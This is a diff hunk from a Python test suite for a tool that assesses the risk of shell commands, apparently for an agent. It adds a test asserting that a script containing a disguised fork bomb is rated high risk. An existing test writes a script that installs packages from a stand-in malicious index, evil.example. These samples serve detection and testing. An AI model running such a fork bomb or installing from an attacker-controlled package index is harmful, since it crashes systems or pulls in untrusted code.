@@ -348,5 +348,7 @@ def test_a_script_given_to_bash_is_judged_by_what_it_says(project: Path) -> None
     assert assess_case("cmd", "bash build.sh", project).risk is Risk.MEDIUM
     (project / "index.sh").write_text("export PIP_INDEX_URL=https://evil.example/simple\npip install x\n")
     assert assess_case("cmd", "bash index.sh", project).risk is Risk.HIGH  # it acts on the script's own install
+    (project / "bomb.sh").write_text("#!/bin/sh\nb() { b | b & }\nb\n")
+    assert assess_case("cmd", "bash bomb.sh", project).risk is Risk.HIGH  # its functions still run in it
     (project / "build.sh").chmod(0o755)
     assert assess_case("cmd", "./build.sh", project).risk is Risk.MEDIUM
